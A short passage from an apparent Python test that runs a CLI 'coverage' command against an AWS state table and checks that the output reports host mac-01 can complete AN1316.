    code = main(["coverage", "--table", aws.tables.state, "--region", "us-east-1"])
    out = capsys.readouterr().out
    assert code == 0
    assert "mac-01: can complete AN1316: yes" in out
